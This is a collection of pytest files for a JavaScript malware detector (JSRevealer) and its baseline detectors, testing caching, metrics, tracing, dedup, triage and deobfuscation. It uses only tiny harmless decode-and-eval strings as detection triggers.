        warm = detector.scan_batch(sources, cache_dir=str(tmp_path))
        assert cold.cache_hits == 0
        assert warm.cache_hits == len(sources)
        assert np.array_equal(cold.label_array, warm.label_array)

    def test_report_carries_fingerprint(self, detector, split):
        report = detector.scan_batch(split.test.sources[:2])
        assert report.model_fingerprint == detector.fingerprint()


class TestInstrumentation:
    def test_metrics_advance_with_each_scan(self, detector, split):
        registry = MetricsRegistry()
        scanner = BatchScanner(detector, metrics=registry)
        scanner.scan(split.test.sources[:3])
        assert registry.get("repro_scan_batches_total").value == 1
        assert registry.get("repro_scan_scripts_total").value == 3
        scanner.scan(split.test.sources[:2])
        assert registry.get("repro_scan_batches_total").value == 2
        assert registry.get("repro_scan_scripts_total").value == 5
        size_histogram = registry.get("repro_scan_batch_size_scripts")
        assert size_histogram.count == 2 and size_histogram.sum == 5

    def test_stage_timings_recorded_per_stage(self, detector, split):
        registry = MetricsRegistry()
        BatchScanner(detector, metrics=registry).scan(split.test.sources[:2])
        for stage in ("path_extraction", "embedding", "feature_transform", "classifying"):
            histogram = registry.get("repro_scan_stage_seconds", {"stage": stage})
            assert histogram is not None and histogram.count == 1, stage

    def test_cache_metrics_flow_through_shared_registry(self, detector, split):
        registry = MetricsRegistry()
        cache = FeatureCache(detector.fingerprint(), metrics=registry)
        scanner = BatchScanner(detector, cache=cache, metrics=registry)
        scanner.scan(split.test.sources[:4])
        scanner.scan(split.test.sources[:4])
        assert registry.get("repro_cache_lookups_total", {"result": "miss"}).value == 4
        assert registry.get("repro_cache_lookups_total", {"result": "hit"}).value == 4

    def test_report_carries_lifetime_cache_stats(self, detector, split):
        cache = FeatureCache(detector.fingerprint())
        scanner = BatchScanner(detector, cache=cache)
        scanner.scan(split.test.sources[:3])
        report = scanner.scan(split.test.sources[:3])
        assert report.cache_stats == cache.stats()
        assert report.cache_stats["hits"] == 3 and report.cache_stats["misses"] == 3
        uncached = BatchScanner(detector).scan(split.test.sources[:1])
        assert uncached.cache_stats is None


class TestPersistentPool:
    def test_persistent_scanner_reuses_pool_and_matches_oneshot(self, detector, split):
        sources = split.test.sources
        baseline = BatchScanner(detector, n_workers=1).scan(sources)
        with BatchScanner(detector, n_workers=2, persistent=True) as scanner:
            first = scanner.scan(sources)
            pool = scanner._pool
            assert pool is not None  # pool survives between scans
            second = scanner.scan(sources)
            assert scanner._pool is pool
        assert scanner._pool is None  # context exit closes it
        for report in (first, second):
            assert report.workers_used == 2
            assert np.array_equal(baseline.label_array, report.label_array)
            assert np.array_equal(baseline.probability_matrix, report.probability_matrix)

    def test_close_is_idempotent_and_safe_without_pool(self, detector):
        scanner = BatchScanner(detector, n_workers=1, persistent=True)
        scanner.close()
        scanner.close()


class TestDetectorScanAPI:
    def test_scan_single(self, detector, split):
        result = detector.scan(split.test.sources[0])
        assert result.verdict in ("benign", "malicious")
        assert 0.0 <= result.probability <= 1.0
        assert result.path_count > 0

    def test_predict_wrappers_agree_with_scan(self, detector, split):
        sources = split.test.sources[:6]
        report = detector.scan_batch(sources)
        assert np.array_equal(detector.predict(sources), report.label_array)
        assert np.allclose(detector.predict_proba(sources)[:, 1], report.probabilities)

    def test_threshold_changes_verdicts_not_labels(self, detector, split):
        sources = split.test.sources
        strict = detector.scan_batch(sources, threshold=1.1)
        assert strict.n_malicious == 0  # nothing reaches an impossible threshold
        assert np.array_equal(strict.label_array, detector.predict(sources))


class TestKeptIndexAlignment:
    def test_embed_script_indices_select_matching_rows(self, detector, split):
        capped = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, max_paths_per_script=5, seed=7))
        capped.embedder = detector.embedder  # reuse the trained embedding
        contexts = capped.extract_paths(split.test.sources[0])
        assert len(contexts) > 5
        vectors, weights, kept = capped.embed_script(contexts, return_indices=True)
        assert len(vectors) == len(weights) == len(kept) == 5
        full_vectors, full_weights = detector.embedder.embed(contexts)
        assert np.array_equal(vectors, full_vectors[kept])
        assert np.array_equal(weights, full_weights[kept])
        # The kept rows are exactly the top-weight paths.
        assert set(kept) == set(np.argsort(full_weights)[::-1][:5])

    def test_fit_with_path_cap_aligns_signatures(self, split):
        det = JSRevealer(
            JSRevealerConfig(
                embed_dim=16, pretrain_epochs=3, k_benign=3, k_malicious=3,
                max_paths_per_script=20, seed=7,
            )
        )
        det.pretrain(split.pretrain.sources, split.pretrain.labels)
        det.fit(split.train.sources, split.train.labels)  # no misalignment error
        assert all(f.central_path_signature for f in det.feature_extractor.features_)


DECISIVE_SOURCE = 'var s = unescape("%61%6c"); var t = s + "()"; eval(t);'


class TestTriageIntegration:
    def test_verdicts_identical_without_decisive_hits(self, detector, split):
        from repro.analysis import Analyzer

        sources = split.test.sources
        full = BatchScanner(detector).scan(sources)
        triaged = BatchScanner(detector, triage=Analyzer()).scan(sources)
        if triaged.triage_hits == 0:  # synthetic corpus trips no decisive rule
            assert np.array_equal(full.label_array, triaged.label_array)
            assert np.allclose(full.probabilities, triaged.probabilities)
        # non-triaged files always match the full pipeline exactly
        for full_result, tri in zip(full.results, triaged.results):
            if not tri.triaged:
                assert tri.label == full_result.label
                assert tri.probability == pytest.approx(full_result.probability)

    def test_decisive_script_short_circuits(self, detector, split):
        from repro.analysis import Analyzer

        sources = split.test.sources[:3] + [DECISIVE_SOURCE]
        report = BatchScanner(detector, triage=Analyzer()).scan(sources)
        hit = report.results[-1]
        assert hit.triaged and hit.malicious and hit.probability == 1.0
        assert hit.path_count == 0  # embedding never ran
        assert report.triage_hits == 1
        assert report.probability_matrix[-1, 1] == 1.0
        assert hit.analysis is not None and hit.analysis["decisive"]

    def test_analysis_attached_and_stage_recorded(self, detector, split):
        from repro.analysis import Analyzer

        report = BatchScanner(detector, triage=Analyzer()).scan(split.test.sources[:2])
        assert all(r.analysis is not None for r in report.results)
        assert "analysis" in report.stage_ms
        assert all("analysis" in r.stage_ms for r in report.results)

    def test_triaged_scripts_bypass_the_cache(self, detector):
        from repro.analysis import Analyzer

        cache = FeatureCache(detector.fingerprint())
        scanner = BatchScanner(detector, cache=cache, triage=Analyzer())
        first = scanner.scan([DECISIVE_SOURCE])
        second = scanner.scan([DECISIVE_SOURCE])
        assert first.triage_hits == second.triage_hits == 1
        assert first.cache_misses == 0 and second.cache_hits == 0
        assert cache.stats()["entries"] == 0

    def test_untriaged_scan_reports_untouched(self, detector, split):
        report = BatchScanner(detector).scan(split.test.sources[:2])
        assert report.triage_hits == 0
        assert all(r.analysis is None and not r.triaged for r in report.results)
        assert "analysis" not in report.stage_ms

    def test_detector_scan_batch_triage_flag(self, detector, split):
        report = detector.scan_batch(split.test.sources[:2] + [DECISIVE_SOURCE], triage=True)
        assert report.triage_hits == 1
        assert report.results[-1].triaged

    def test_all_scripts_triaged(self, detector):
        from repro.analysis import Analyzer

        report = BatchScanner(detector, triage=Analyzer()).scan([DECISIVE_SOURCE, DECISIVE_SOURCE])
        assert report.triage_hits == 2
        assert all(r.triaged for r in report.results)
        assert report.probability_matrix.shape == (2, 2)
