"""Unit tests for the content-addressed embedding cache."""

import numpy as np
import pytest

from repro.pipeline import CacheEntry, FeatureCache, content_key


def make_entry(seed=0, n=4, dim=8):
    rng = np.random.default_rng(seed)
    return CacheEntry(vectors=rng.normal(size=(n, dim)), weights=rng.random(n), path_count=n + 3)


class TestContentKey:
    def test_deterministic(self):
        assert content_key("var a = 1;") == content_key("var a = 1;")

    def test_distinct_sources_distinct_keys(self):
        assert content_key("var a = 1;") != content_key("var a = 2;")

    def test_is_sha256_hex(self):
        key = content_key("x")
        assert len(key) == 64
        int(key, 16)  # parses as hex


class TestMemoryLayer:
    def test_miss_then_hit(self):
        cache = FeatureCache("fp")
        key = content_key("a")
        assert cache.get(key) is None
        cache.put(key, make_entry())
        entry = cache.get(key)
        assert entry is not None and entry.path_count == 7
        assert cache.hits == 1 and cache.misses == 1

    def test_lru_evicts_oldest(self):
        cache = FeatureCache("fp", max_entries=2)
        keys = [content_key(str(i)) for i in range(3)]
        cache.put(keys[0], make_entry(0))
        cache.put(keys[1], make_entry(1))
        cache.get(keys[0])  # refresh 0: now 1 is least recent
        cache.put(keys[2], make_entry(2))
        assert cache.get(keys[0]) is not None
        assert cache.get(keys[1]) is None  # evicted
        assert cache.get(keys[2]) is not None

    def test_rejects_nonpositive_capacity(self):
        with pytest.raises(ValueError):
            FeatureCache("fp", max_entries=0)


class TestDiskLayer:
    def test_survives_across_instances(self, tmp_path):
        key = content_key("script")
        entry = make_entry(5)
        FeatureCache("fp", cache_dir=tmp_path).put(key, entry)

        fresh = FeatureCache("fp", cache_dir=tmp_path)
        restored = fresh.get(key)
        assert restored is not None
        assert np.array_equal(restored.vectors, entry.vectors)
        assert np.array_equal(restored.weights, entry.weights)
        assert restored.path_count == entry.path_count
        assert fresh.disk_hits == 1

    def test_fingerprint_namespaces_entries(self, tmp_path):
        key = content_key("script")
        FeatureCache("model-a", cache_dir=tmp_path).put(key, make_entry())
        other = FeatureCache("model-b", cache_dir=tmp_path)
        assert other.get(key) is None  # a retrained model never sees stale entries

    def test_corrupt_file_is_a_miss_and_healed(self, tmp_path):
        cache = FeatureCache("fp", cache_dir=tmp_path)
        key = content_key("script")
        cache.put(key, make_entry())
        path = next((tmp_path / "fp").glob("*.npz"))
        path.write_bytes(b"not an npz archive")

        fresh = FeatureCache("fp", cache_dir=tmp_path)
        assert fresh.get(key) is None
        assert not path.exists()  # corrupt file removed
        fresh.put(key, make_entry())
        assert FeatureCache("fp", cache_dir=tmp_path).get(key) is not None

    def test_disk_promotes_into_memory(self, tmp_path):
        key = content_key("script")
        FeatureCache("fp", cache_dir=tmp_path).put(key, make_entry())
        fresh = FeatureCache("fp", cache_dir=tmp_path)
        fresh.get(key)
        fresh.get(key)
        assert fresh.disk_hits == 1  # second hit served from memory
        assert fresh.hits == 2

    def test_stats_shape(self, tmp_path):
        cache = FeatureCache("fp", cache_dir=tmp_path)
        stats = cache.stats()
        assert set(stats) == {
            "hits", "misses", "disk_hits", "evictions", "corrupt",
            "flights_led", "flights_followed", "entries",
        }
