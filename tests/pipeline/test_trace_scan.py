"""Scanner-level tracing and verdict provenance.

Covers the tentpole contract at the pipeline layer: a traced scan emits a
span per stage and per script plus provenance for every verdict, while an
untraced scan's serialized output stays byte-identical to the pre-tracing
format (no ``trace`` keys at all).
"""

import json

import numpy as np
import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.analysis import Analyzer
from repro.obs import Tracer, span_tree
from repro.pipeline import BatchScanner, FeatureCache


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


def span_names(spans):
    return {span["name"] for span in spans}


class TestTracedScan:
    def test_sequential_scan_emits_stage_and_script_spans(self, detector, split):
        scanner = BatchScanner(detector, tracer=Tracer(sample_rate=1.0))
        report = scanner.scan(split.test.sources[:3], trace=True)
        assert report.trace is not None
        names = span_names(report.trace["spans"])
        assert {"scan.batch", "feature_transform", "classify",
                "path_extraction", "embedding", "script"} <= names
        assert sum(1 for s in report.trace["spans"] if s["name"] == "script") == 3
        roots = span_tree(report.trace["spans"])
        assert len(roots) == 1 and roots[0]["name"] == "scan.batch"
        assert roots[0]["attributes"]["n_scripts"] == 3

    def test_every_result_carries_trace_and_provenance(self, detector, split):
        scanner = BatchScanner(detector, tracer=Tracer(sample_rate=1.0))
        report = scanner.scan(split.test.sources[:3], trace=True)
        for result in report.results:
            assert result.trace is not None
            assert result.trace["trace_id"] == report.trace["trace_id"]
            provenance = result.trace["provenance"]
            assert provenance["top_paths"], result.path
            assert provenance["top_paths"] == sorted(
                provenance["top_paths"], key=lambda e: -e["weight"]
            )
            assert provenance["cluster_features"]
            feature = provenance["cluster_features"][0]
            assert {"feature_index", "weight", "cluster_label", "central_path"} <= set(feature)
            # The per-file subtree is rooted at that file's script span.
            assert result.trace["spans"][0]["name"] == "script"

    def test_parallel_scan_traces_identically_named_stages(self, detector, split):
        scanner = BatchScanner(detector, n_workers=2, tracer=Tracer(sample_rate=1.0))
        report = scanner.scan(split.test.sources[:4], trace=True)
        names = span_names(report.trace["spans"])
        assert {"scan.batch", "script", "path_extraction", "embedding"} <= names

    def test_verdicts_unchanged_by_tracing(self, detector, split):
        sources = split.test.sources[:4]
        plain = BatchScanner(detector).scan(sources)
        traced = BatchScanner(detector, tracer=Tracer(sample_rate=1.0)).scan(sources, trace=True)
        assert np.array_equal(plain.label_array, traced.label_array)
        assert np.array_equal(plain.probability_matrix, traced.probability_matrix)

    def test_untraced_output_has_no_trace_keys(self, detector, split):
        # Byte-identical contract: tracing must be invisible when off —
        # a scanner *with* a tracer but an unsampled/untraced call included.
        sources = split.test.sources[:2]
        baseline = BatchScanner(detector).scan(sources).to_json()
        with_tracer = BatchScanner(detector, tracer=Tracer(sample_rate=0.0)).scan(sources)
        assert "\"trace\"" not in with_tracer.to_json()
        for result in with_tracer.results:
            assert "trace" not in result.to_dict()
        def strip(report_dict):
            # Wall-clock timings legitimately differ between runs; every
            # other byte must match.
            out = {k: v for k, v in report_dict.items() if k not in ("elapsed_ms", "stage_ms")}
            out["results"] = [
                {k: v for k, v in r.items() if k != "stage_ms"} for r in report_dict["results"]
            ]
            return out

        assert strip(json.loads(with_tracer.to_json())) == strip(json.loads(baseline))

    def test_trace_flag_false_overrides_tracer(self, detector, split):
        scanner = BatchScanner(detector, tracer=Tracer(sample_rate=1.0))
        report = scanner.scan(split.test.sources[:2], trace=False)
        assert report.trace is None

    def test_triage_decisive_hit_traced_with_rule_provenance(self, detector, split):
        scanner = BatchScanner(detector, triage=Analyzer(), tracer=Tracer(sample_rate=1.0))
        decisive = "var h = unescape('%61%62');\neval(h);\n"
        report = scanner.scan([decisive, split.test.sources[0]], trace=True)
        result = report.results[0]
        assert result.triaged
        provenance = result.trace["provenance"]
        assert any(rule["decisive"] for rule in provenance["rules"])
        assert provenance["analysis_score"] > 0
        events = [e["name"] for s in result.trace["spans"] for e in s.get("events", [])]
        assert "triage_decisive" in events

    def test_cache_hit_event_and_no_embed_spans_on_warm_scan(self, detector, split, tmp_path):
        sources = split.test.sources[:2]
        tracer = Tracer(sample_rate=1.0)
        cache = FeatureCache(detector.fingerprint(), cache_dir=tmp_path)
        BatchScanner(detector, cache=cache, tracer=tracer).scan(sources, trace=True)
        warm = BatchScanner(detector, cache=cache, tracer=tracer).scan(sources, trace=True)
        assert all(result.cache_hit for result in warm.results)
        events = [e["name"] for s in warm.trace["spans"] for e in s.get("events", [])]
        assert "cache_hit" in events and "cache_miss" not in events
        assert "path_extraction" not in span_names(warm.trace["spans"])

    def test_detector_scan_batch_trace_flag(self, detector, split):
        report = detector.scan_batch(split.test.sources[:2], trace=True)
        assert report.trace is not None
        assert all(result.trace is not None for result in report.results)
        untr = detector.scan_batch(split.test.sources[:2])
        assert untr.trace is None


class TestFeatureProvenance:
    def test_ranked_by_abs_value_times_importance(self, detector):
        row = np.zeros(len(detector.feature_extractor.features_))
        row[0] = 1.0
        ranked = detector.feature_provenance(row, top_n=3)
        assert ranked[0]["feature_index"] == 0
        assert ranked[0]["weight"] >= ranked[-1]["weight"]
        assert all(entry["weight"] >= 0 for entry in ranked)

    def test_top_n_bounds(self, detector):
        row = np.ones(len(detector.feature_extractor.features_))
        assert len(detector.feature_provenance(row, top_n=2)) == 2
        assert len(detector.feature_provenance(row, top_n=10_000)) <= len(detector.feature_extractor.features_)
