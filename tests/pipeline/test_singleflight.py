"""Single-flight dedup on the shared cache: in-batch and cross-process.

Two shards sharing one ``cache_dir`` must compute each never-seen script
exactly once cluster-wide.  These tests drive the two mechanisms
directly: the lock-file flight protocol between two :class:`FeatureCache`
instances (standing in for two shard processes), and the in-batch dedup
inside :class:`BatchScanner`.
"""

import threading
import time

import numpy as np
import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.obs import MetricsRegistry
from repro.pipeline import BatchScanner, FeatureCache, content_key


def make_entry(seed=0, n=4, dim=8):
    rng = np.random.default_rng(seed)
    from repro.pipeline.cache import CacheEntry

    return CacheEntry(
        vectors=rng.normal(size=(n, dim)), weights=rng.random(n), path_count=n
    )


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


class TestFlightProtocol:
    def test_leader_then_follower(self, tmp_path):
        cache_a = FeatureCache("fp", cache_dir=tmp_path)
        cache_b = FeatureCache("fp", cache_dir=tmp_path)
        key = content_key("var x = 1;")
        assert cache_a.acquire_flight(key) is True  # first claimant leads
        assert cache_b.acquire_flight(key) is False  # second follows
        assert cache_a.stats()["flights_led"] == 1
        assert cache_b.stats()["flights_followed"] == 1
        entry = make_entry()
        cache_a.put(key, entry)
        cache_a.release_flight(key)
        waited = cache_b.wait_flight(key, timeout_s=5.0)
        assert waited is not None
        assert np.array_equal(waited.vectors, entry.vectors)
        # The follower's wait promoted the entry into its memory layer.
        assert cache_b.get(key) is not None

    def test_follower_waits_while_leader_computes(self, tmp_path):
        cache_a = FeatureCache("fp", cache_dir=tmp_path)
        cache_b = FeatureCache("fp", cache_dir=tmp_path)
        key = content_key("var slow = true;")
        entry = make_entry(seed=1)
        assert cache_a.acquire_flight(key)
        assert not cache_b.acquire_flight(key)

        def leader():
            time.sleep(0.2)  # "computing"
            cache_a.put(key, entry)
            cache_a.release_flight(key)

        thread = threading.Thread(target=leader)
        thread.start()
        waited = cache_b.wait_flight(key, timeout_s=5.0)
        thread.join()
        assert waited is not None and np.array_equal(waited.weights, entry.weights)

    def test_leader_failure_releases_followers(self, tmp_path):
        cache_a = FeatureCache("fp", cache_dir=tmp_path)
        cache_b = FeatureCache("fp", cache_dir=tmp_path)
        key = content_key("throw new Error();")
        assert cache_a.acquire_flight(key)
        assert not cache_b.acquire_flight(key)
        cache_a.release_flight(key)  # leader faulted: released without a put
        assert cache_b.wait_flight(key, timeout_s=5.0) is None  # caller computes locally

    def test_stale_lock_is_broken(self, tmp_path):
        cache_a = FeatureCache("fp", cache_dir=tmp_path)
        cache_b = FeatureCache("fp", cache_dir=tmp_path)
        key = content_key("while(1){}")
        assert cache_a.acquire_flight(key)
        # Age the lock past the stale threshold (a leader that died).
        lock = cache_a._flight_path(key)
        old = time.time() - 120.0
        import os

        os.utime(lock, (old, old))
        cache_b.flight_stale_s = 30.0
        assert cache_b.acquire_flight(key) is True  # broke the lock, now leads

    def test_wait_timeout_returns_none(self, tmp_path):
        cache_a = FeatureCache("fp", cache_dir=tmp_path)
        cache_b = FeatureCache("fp", cache_dir=tmp_path)
        key = content_key("leader.never.finishes")
        assert cache_a.acquire_flight(key)
        assert cache_b.wait_flight(key, timeout_s=0.1) is None

    def test_no_disk_layer_means_no_coordination(self):
        cache = FeatureCache("fp")  # memory-only
        key = content_key("anything")
        assert cache.acquire_flight(key) is True
        assert cache.wait_flight(key, timeout_s=0.1) is None
        cache.release_flight(key)  # no-op, no error
        assert cache.stats()["flights_led"] == 0


class TestScannerDedup:
    def test_in_batch_duplicates_computed_once(self, detector, split):
        metrics = MetricsRegistry()
        cache = FeatureCache(detector.fingerprint(), metrics=metrics)
        scanner = BatchScanner(detector, cache=cache, metrics=metrics)
        source = split.test.sources[0]
        report = scanner.scan([source, source, source, split.test.sources[1]])
        assert report.n_files == 4
        # Three copies → one computed, two deduplicated.
        assert 'repro_scan_dedup_total{scope="batch"} 2' in metrics.render()
        first, second, third, _ = report.results
        assert first.label == second.label == third.label
        assert first.probability == second.probability == third.probability
        assert first.path_count == third.path_count

    def test_dedup_results_match_unique_scan(self, detector, split):
        source = split.test.sources[2]
        plain = BatchScanner(detector).scan([source])
        deduped = BatchScanner(detector, cache=FeatureCache(detector.fingerprint())).scan(
            [source, source]
        )
        for result in deduped.results:
            assert result.label == plain.results[0].label
            assert result.probability == plain.results[0].probability

    def test_cross_process_flight_via_scanner(self, detector, split, tmp_path):
        """A second scanner (same shared dir) leads its own flights and
        publishes entries the first can read — the shard-level contract."""
        metrics = MetricsRegistry()
        cache_a = FeatureCache(detector.fingerprint(), cache_dir=tmp_path, metrics=metrics)
        scanner_a = BatchScanner(detector, cache=cache_a, metrics=metrics)
        source = split.test.sources[3]
        scanner_a.scan([source])
        assert cache_a.stats()["flights_led"] == 1  # claimed and released
        assert (cache_a._flight_path(content_key(source))).exists() is False
        # A fresh cache (another process in real life) hits the disk entry.
        cache_b = FeatureCache(detector.fingerprint(), cache_dir=tmp_path)
        assert cache_b.get(content_key(source)) is not None
