"""Scanner integration for taint-flow triage.

The ordering invariant ISSUE 8 pins down: with the pre-pass enabled,
triage analysis must run over the *normalized* text (deobfuscation
strictly precedes analysis), and the findings it produces must carry
both normalized spans and — via the normalization line map — ``raw_line``
spans pointing into the script the caller actually submitted.
"""

from pathlib import Path

import pytest

from repro.analysis import Analyzer
from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.deobfuscate import Deobfuscator
from repro.pipeline import BatchScanner

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

#: An obfuscated decode→eval chain: raw, the decode callee hides behind a
#: computed member key (`window["at" + "ob"]`) that neither the syntactic
#: catalog nor the taint source match can see; constant folding exposes
#: it, so a decisive decode-chain verdict *proves* analysis ran after
#: deobfuscation — and the witness's raw_line spans must still point at
#: the submitted lines.
OBFUSCATED_CHAIN = 'var p = window["at" + "ob"](x);\neval(p);\n'


@pytest.fixture(scope="module")
def detector():
    split = experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=2)
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


def scan_one(detector, source, deobfuscate=True, **kwargs):
    scanner = BatchScanner(
        detector,
        triage=Analyzer(),
        deobfuscate=Deobfuscator() if deobfuscate else None,
        **kwargs,
    )
    return scanner.scan([source], names=["t.js"]).results[0]


class TestAnalysisSeesNormalizedText:
    def test_analysis_runs_after_deobfuscation(self, detector):
        """Ordering regression: the sample is decisive only when analysis
        sees the normalized text, so a triage hit proves deobfuscation
        strictly preceded analysis."""
        without = scan_one(detector, OBFUSCATED_CHAIN, deobfuscate=False)
        assert not without.triaged
        result = scan_one(detector, OBFUSCATED_CHAIN)
        assert result.normalization is not None
        assert result.normalization["changed"] is True
        rules = {f["rule_id"] for f in result.analysis["findings"]}
        assert "decode-chain" in rules
        assert result.triaged

    def test_findings_carry_raw_line_spans(self, detector):
        result = scan_one(detector, OBFUSCATED_CHAIN)
        flow = next(
            f for f in result.analysis["findings"] if f["rule_id"] == "decode-chain"
        )
        raw_lines = [hop.get("raw_line") for hop in flow["witness"]]
        assert all(isinstance(line, int) for line in raw_lines)
        # Both span systems present: normalized lines in `line`, raw in
        # `raw_line`, and the raw sink span points at the eval statement.
        assert flow["witness"][-1]["raw_line"] == 2
        assert flow.get("raw_line") == 2

    def test_no_line_map_annotations_without_deobfuscation(self, detector):
        result = scan_one(detector, OBFUSCATED_CHAIN, deobfuscate=False)
        for finding in result.analysis["findings"]:
            assert finding.get("raw_line") is None

    def test_clean_scripts_get_no_raw_spans(self, detector):
        clean = (EXAMPLES / "corpus" / "vendor_0.js").read_text()
        result = scan_one(detector, clean)
        assert result.normalization is None
        if result.analysis:
            for finding in result.analysis.get("findings", []):
                assert finding.get("raw_line") is None

    def test_raw_directive_suppresses_across_normalization(self, detector):
        """Normalization drops the comment carrying the directive; the
        scanner must still honor it (lexed from the raw text, matched on
        raw_line), so the suppressed flow cannot triage the script."""
        suppressed_src = OBFUSCATED_CHAIN.replace(
            "eval(p);", "eval(p); // repro-ignore: decode-chain"
        )
        result = scan_one(detector, suppressed_src)
        rules = {f["rule_id"] for f in result.analysis["findings"]}
        assert "decode-chain" not in rules
        assert {"rule_id": "decode-chain", "line": 2} in result.analysis["suppressed_at"]
        assert not result.triaged


class TestProvenanceCarriesWitness:
    def test_provenance_rules_include_witness_and_spans(self, detector):
        from repro.obs import Tracer

        scanner = BatchScanner(
            detector,
            triage=Analyzer(),
            deobfuscate=Deobfuscator(),
            tracer=Tracer(sample_rate=1.0),
        )
        result = scanner.scan([OBFUSCATED_CHAIN], names=["t.js"], trace=True).results[0]
        provenance = result.trace["provenance"]
        flow_entries = [
            entry for entry in provenance["rules"] if entry.get("witness")
        ]
        assert flow_entries
        entry = next(e for e in flow_entries if e["rule_id"] == "decode-chain")
        assert entry["decisive"] is True
        assert entry["line"] >= 1 and entry["raw_line"] == 2
        hops = entry["witness"]
        assert hops[0]["op"].startswith("source:")
        assert hops[-1]["op"].startswith("sink:")

    def test_obfuscator_io_decisive_via_dispatch_without_prepass(self, detector):
        """The acceptance sample: raw obfuscator.io input triages decisive
        through the dataflow dispatch rule even with the pre-pass off."""
        source = (EXAMPLES / "obfuscated" / "obfuscator_io.js").read_text()
        result = scan_one(detector, source, deobfuscate=False)
        assert result.triaged
        rules = {f["rule_id"] for f in result.analysis["findings"]}
        assert "flow-tainted-dispatch" in rules
