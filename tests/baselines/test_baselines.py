"""Unit tests for the four comparison detectors (CUJO, ZOZZLE, JAST, JSTAP)."""

import numpy as np
import pytest

from repro.baselines import ALL_BASELINES, CUJO, JAST, JSTAP, ZOZZLE
from repro.baselines.cujo import _token_stream
from repro.baselines.jast import _unit_sequence
from repro.baselines.jstap import _pdg_grams
from repro.baselines.zozzle import _context_features
from repro.datasets import experiment_split
from repro.ml import accuracy


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=5, pretrain_per_class=0, train_per_class=25, test_per_class=15)


@pytest.mark.parametrize("cls", list(ALL_BASELINES.values()), ids=list(ALL_BASELINES))
class TestCommonContract:
    def test_fit_predict_shapes(self, cls, split):
        detector = cls().fit(split.train.sources, split.train.labels)
        predictions = detector.predict(split.test.sources)
        assert predictions.shape == (len(split.test),)
        assert set(np.unique(predictions)) <= {0, 1}

    def test_learns_the_corpus(self, cls, split):
        detector = cls().fit(split.train.sources, split.train.labels)
        predictions = detector.predict(split.test.sources)
        assert accuracy(split.test.label_array, predictions) >= 0.8

    def test_unparseable_input_survives(self, cls, split):
        detector = cls().fit(split.train.sources, split.train.labels)
        predictions = detector.predict(["(((", ""])
        assert predictions.shape == (2,)


class TestCUJOFeatures:
    def test_token_abstraction(self):
        tokens = _token_stream("var count = 3 + 'x';")
        assert tokens == ["var", "ID", "=", "NUM", "+", "STR", ";"]

    def test_regex_token(self):
        assert "REGEX" in _token_stream("var r = /a/;")

    def test_bad_source_empty(self):
        assert _token_stream("\"unterminated") == []

    def test_renaming_invariant(self):
        a = _token_stream("var alpha = 1; f(alpha);")
        b = _token_stream("var _0x12 = 1; g(_0x12);")
        assert a == b  # identifiers abstract to ID: CUJO ignores names


class TestZOZZLEFeatures:
    def test_context_text_pairs(self):
        feats = _context_features("var x = 'secret';")
        assert "VariableDeclaration:x" in feats
        assert "VariableDeclaration:secret" in feats

    def test_context_tracks_enclosing_statement(self):
        feats = _context_features("if (cond) { doIt(); }")
        # The condition belongs to the IfStatement context; the call body
        # sits in its own ExpressionStatement context.
        assert "IfStatement:cond" in feats
        assert "ExpressionStatement:doIt" in feats

    def test_function_context(self):
        feats = _context_features("function f() { return inner; }")
        assert "ReturnStatement:inner" in feats

    def test_long_strings_truncated(self):
        feats = _context_features(f"var s = '{'a' * 100}';")
        assert all(len(f) < 70 for f in feats)


class TestJASTFeatures:
    def test_unit_sequence_preorder(self):
        seq = _unit_sequence("var x = 1;")
        assert seq == ["Program", "VariableDeclaration", "VariableDeclarator", "Identifier", "Literal"]

    def test_no_names_in_features(self):
        seq = _unit_sequence("var secretName = evil();")
        assert "secretName" not in seq
        assert all(unit[0].isupper() for unit in seq)

    def test_renaming_invariant(self):
        assert _unit_sequence("var a = f(1);") == _unit_sequence("var _0x9 = g(2);")


class TestJSTAPFeatures:
    def test_grams_include_edge_kinds(self):
        grams = _pdg_grams("var x = 1; use(x);")
        assert any("--data-->" in g for g in grams)

    def test_control_edge_grams(self):
        grams = _pdg_grams("if (a) { b(); c(); d(); }")
        assert any("--control-->" in g for g in grams)

    def test_empty_for_bad_source(self):
        assert _pdg_grams("((((") == []

    def test_more_code_more_grams(self):
        small = _pdg_grams("var x = 1; f(x);")
        big = _pdg_grams("var x = 1; f(x); var y = x + 1; g(y); if (y) { h(x, y); }")
        assert len(big) > len(small)


class TestJSTAPAbstractions:
    @pytest.mark.parametrize("abstraction", ["tokens", "ast", "cfg", "pdg"])
    def test_every_abstraction_trains(self, abstraction, split):
        detector = JSTAP(abstraction=abstraction).fit(split.train.sources, split.train.labels)
        predictions = detector.predict(split.test.sources)
        assert accuracy(split.test.label_array, predictions) >= 0.75

    def test_unknown_abstraction_rejected(self):
        with pytest.raises(ValueError):
            JSTAP(abstraction="quantum")


class TestConstruction:
    def test_custom_ngram_orders(self):
        assert CUJO(n=2).n == 2
        assert JAST(n=3).n == 3

    def test_detector_names(self):
        assert CUJO().name == "cujo"
        assert ZOZZLE().name == "zozzle"
        assert JAST().name == "jast"
        assert JSTAP().name == "jstap"
