"""End-to-end tests for the scan daemon over real sockets.

A tiny detector is trained once per module; servers run on ephemeral
